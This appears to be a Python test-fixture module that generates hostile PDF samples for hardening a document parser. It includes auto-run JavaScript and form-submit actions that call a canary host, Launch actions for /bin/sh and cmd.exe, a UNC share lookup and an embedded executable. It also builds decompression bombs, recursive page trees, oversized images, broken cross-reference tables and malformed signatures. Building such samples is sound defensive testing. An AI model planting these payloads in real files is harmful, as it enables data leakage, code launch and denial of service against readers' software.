"""PDF files made to do harm; see hostile_samples."""

from __future__ import annotations

import zlib

Files = list[tuple[str, bytes]]
_PAGES = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_WORDS = b"BT /F 20 Tf 20 200 Td (van ban) Tj ET"


def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n" % (len(content), more) + content + b"\nendstream"


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, content) for number, content in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer <</Root 1 0 R" + trailer + b">>\n%%EOF\n"


def paper(
    catalogue: bytes = b"", page: bytes = _PAGE, contents: bytes = _WORDS, *more: bytes, trailer: bytes = b""
) -> bytes:
    root = b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>"
    return pdf(root, _PAGES, page, stream(contents), _FONT, *more, trailer=trailer)


def pdf_classes(canary: str, good: bytes) -> dict[str, Files]:
    url = f"http://{canary}/x".encode()
    return {
        "pdf_actions": _actions(url, canary),
        "pdf_trees": _trees(),
        "pdf_boxes": _boxes(),
        "pdf_streams": _streams(url),
        "pdf_structure": _structure(good),
        "pdf_locked": _locked(),
        "pdf_signed_badly": _signed_badly(good),
    }


def _actions(url: bytes, canary: str) -> Files:
    script = b"app.alert('x');this.submitForm('" + url + b"');app.launchURL('" + url + b"');"
    share = f"\\\\\\\\{canary}\\\\share\\\\x".encode()
    actions = {
        "js": b"<</S/JavaScript/JS(" + script + b")>>",
        "launch": b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>",
        "uri": b"<</S/URI/URI(" + url + b")>>",
        "gotor": b"<</S/GoToR/F(" + share + b")/D[0/Fit]>>",
        "gotoe": b"<</S/GoToE/F(" + url + b")/D[0/Fit]>>",
        "submit": b"<</S/SubmitForm/F<</FS/URL/F(" + url + b")>>>>",
        "import": b"<</S/ImportData/F(" + share + b")>>",
        "next": b"<</S/JavaScript/JS(1)/Next<</S/JavaScript/JS(" + script + b")>>>>",
    }
    made = [(f"mo-{name}.pdf", paper(b"/OpenAction" + action)) for name, action in actions.items()]
    made += [
        ("trang-js.pdf", paper(page=_PAGE.replace(b"/Type/Page/", b"/Type/Page/AA<</O" + actions["js"] + b">>/"))),
        ("ten-js.pdf", paper(b"/Names<</JavaScript<</Names[(a)" + actions["js"] + b"]>>>>")),
        ("dinh-kem.pdf", paper(b"/Names<</EmbeddedFiles<</Names[(a.exe)<</F(a.exe)/EF<</F 6 0 R>>>>]>>>>", _PAGE, _WORDS,
                               stream(b"MZ" + b"\0" * 2000))),
        ("xfa.pdf", paper(b"/AcroForm<</XFA 6 0 R/Fields[]>>", _PAGE, _WORDS,
                          stream(b'<xdp:xdp xmlns:xdp="x"><script>app.alert(1)</script><a href="' + url + b'"/></xdp:xdp>'))),
        ("bieu-mau.pdf", paper(b"/AcroForm<</NeedAppearances true/Fields[6 0 R]/CO[6 0 R]>>", _PAGE, _WORDS,
                               b"<</FT/Tx/T(a)/V(b)/AA<</C" + actions["js"] + b">>>>")),
    ]  # fmt: skip
    return made


def _trees() -> Files:
    root = b"<</Type/Catalog/Pages 2 0 R>>"
    deep = [b"<</Type/Pages/Count 1/Kids[%d 0 R]/Parent %d 0 R>>" % (n + 1, n - 1) for n in range(2, 3000)]
    return [
        ("vong.pdf", pdf(root, b"<</Type/Pages/Count 1000000/Kids[2 0 R 2 0 R]>>")),
        ("cha-con.pdf", pdf(root, b"<</Type/Pages/Count 9/Kids[3 0 R]>>", b"<</Type/Pages/Count 9/Kids[2 0 R]/Parent 3 0 R>>")),
        ("nhieu-trang.pdf", pdf(root, b"<</Type/Pages/Count 6000/Kids[" + b"3 0 R " * 6000 + b"]>>", _PAGE, stream(_WORDS), _FONT)),
        ("sau.pdf", pdf(root, *deep)),
        ("khong-trang.pdf", pdf(root, b"<</Type/Pages/Count 0/Kids[]>>")),
        ("am.pdf", pdf(root, b"<</Type/Pages/Count -5/Kids[3 0 R]>>", _PAGE, stream(_WORDS), _FONT)),
        ("ty-trang.pdf", pdf(root, b"<</Type/Pages/Count 2147483647/Kids[3 0 R]>>", _PAGE, stream(_WORDS), _FONT)),
        ("muc-luc.pdf", paper(b"/Outlines 6 0 R", _PAGE, _WORDS, b"<</First 6 0 R/Last 6 0 R/Next 6 0 R/Title(x)>>")),
    ]  # fmt: skip


def _boxes() -> Files:
    made = []
    for number, box in enumerate(
        (
            b"0 0 1e9 1e9", b"0 0 0 0", b"-1e30 -1e30 1e30 1e30", b"0 0 14400 14400", b"0 0 1 1000000", b"9 9 1 1", b"0 0 1000000 0.001", b"a b c d",
            b"0 0 99999999999999999999 1", b"1 2",
        )
    ):  # fmt: skip
        page = _PAGE.replace(b"[0 0 300 300]", b"[" + box + b"]/UserUnit 75000")
        made.append((f"kho-{number}.pdf", paper(page=page)))
    return made


def _streams(url: bytes) -> Files:
    twice = zlib.compress(zlib.compress(b"BT (x) Tj ET " * 3_000_000, 9), 9)
    flate = b"/Filter[" + b"/FlateDecode" * 2 + b"]"
    image = b"<</Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"
    root, drawn = b"<</Type/Catalog/Pages 2 0 R>>", _PAGE.replace(b"/Font<<", b"/XObject<</I 6 0 R>>/Font<<")
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</I 6 0 R>>>>"
    return [
        ("bom.pdf", pdf(root, _PAGES, _PAGE, stream(twice, flate), _FONT)),
        ("loc.pdf", pdf(root, _PAGES, _PAGE, stream(b"x" * 100, b"/Filter[" + b"/ASCIIHexDecode" * 5000 + b"]"), _FONT)),
        ("anh.pdf", pdf(root, _PAGES, drawn, stream(b"q 300 0 0 300 0 0 cm /I Do Q"), _FONT, image + stream(zlib.compress(bytes(900_000)), b"/Filter/FlateDecode")[2:])),
        ("tu-goi.pdf", pdf(root, _PAGES, drawn, stream(b"/I Do " * 50), _FONT, stream(b"/I Do /I Do", form))),
        ("chong-q.pdf", paper(contents=b"q " * 200_000)),
        ("net.pdf", paper(contents=b"0 0 m 300 300 l [0.0001] 0 d S " * 20_000)),
        ("ngoac.pdf", paper(contents=b"[" * 100_000)),
        ("jbig2.pdf", pdf(root, _PAGES, drawn, stream(b"/I Do"), _FONT, image + stream(b"\0" * 500, b"/Filter/JBIG2Decode")[2:])),
        ("jpx.pdf", pdf(root, _PAGES, drawn, stream(b"/I Do"), _FONT, image + stream(b"\0\0\0\x0cjP  \r\n" + b"\xff" * 500, b"/Filter/JPXDecode")[2:])),
        ("ngoai.pdf", pdf(root, _PAGES, _PAGE, b"<</Length 0/F<</FS/URL/F(" + url + b")>>>>stream\n\nendstream", _FONT)),
        ("font.pdf", paper(b"", _PAGE, _WORDS).replace(_FONT, b"<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor<</FontFile2 6 0 R>>/ToUnicode 6 0 R>>")),
        ("do-dai.pdf", paper().replace(b"/Length %d" % len(_WORDS), b"/Length 2147483647")),
        ("vong-dai.pdf", paper().replace(b"/Length %d" % len(_WORDS), b"/Length 4 0 R")),
    ]  # fmt: skip


def _structure(good: bytes) -> Files:
    return [
        ("xref-vong.pdf", good[: good.rindex(b"startxref")] + b"xref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Prev 0/Size 1>>\nstartxref\n%d\n%%%%EOF" % good.rindex(b"xref")),
        ("xref-xa.pdf", good[: good.rindex(b"startxref")] + b"startxref\n99999999999\n%%EOF"),
        ("xref-am.pdf", good[: good.rindex(b"startxref")] + b"startxref\n-5\n%%EOF"),
        ("long-ngoac.pdf", paper(b"/X" + b"[" * 50_000 + b"]" * 50_000)),
        ("long-tu-dien.pdf", paper(b"/X" + b"<</A" * 50_000 + b" 1" + b">>" * 50_000)),
        ("tu-chi.pdf", paper(b"/X 6 0 R", _PAGE, _WORDS, b"6 0 R")),
        ("ten-dai.pdf", paper(b"/" + b"A" * 300_000 + b" 1")),
        ("chi-dau.pdf", b"%PDF-1.7\n%%EOF"),
        ("goc-mat.pdf", b"%PDF-1.7\ntrailer <</Root 99 0 R>>\n%%EOF"),
        ("objstm.pdf", paper(b"/X 7 0 R", _PAGE, _WORDS, stream(b"7 0 8 0 ", b"/Type/ObjStm/N 1000000/First 8/Extends 6 0 R"))),
        ("nhieu-obj.pdf", paper(b"", _PAGE, _WORDS, *[b"null"] * 30_000)),
        ("rac-truoc.pdf", b"\0" * 1000 + good),
    ]  # fmt: skip


def _locked() -> Files:
    made = []
    for number, (version, revision) in enumerate(((1, 2), (2, 3), (4, 4), (5, 6), (9, 99))):
        key = b"<" + b"41" * (48 if revision == 6 else 32) + b">"
        lock = b"/Encrypt<</Filter/Standard/V %d/R %d/O%s/U%s/P -4/Length 128>>/ID[<41><41>]" % (
            version,
            revision,
            key,
            key,
        )
        made.append((f"khoa-{number}.pdf", paper(trailer=lock)))
    return made


def _signed_badly(good: bytes) -> Files:
    made = []
    for number, (ranges, content) in enumerate(
        (
            (b"0 1 2 3", b"3000"), (b"0 99999999999 5 -7", b"3080" * 500), (b"0 0 0 0", b""), (b"-1 -1 -1 -1", b"zz"), (b"0 " * 5000, b"30" * 9000),
            (b"1 0 R", b"30820122" + b"00" * 300),
        )
    ):  # fmt: skip
        field = b"<</FT/Sig/T(s)/V 7 0 R>>"
        value = (
            b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange["
            + ranges
            + b"]/Contents<"
            + content
            + b">>>"
        )
        made.append((f"ky-{number}.pdf", paper(b"/AcroForm<</SigFlags 3/Fields[6 0 R]>>", _PAGE, _WORDS, field, value)))
    field = b"<</FT/Sig/T(s)/Kids[6 0 R]/Parent 6 0 R>>"
    made.append(("ky-vong.pdf", paper(b"/AcroForm<</Fields[6 0 R]>>/X(/ByteRange)", _PAGE, _WORDS, field)))
    made.append(("ky-rac.pdf", good + b"\n% /ByteRange\n"))
    return made
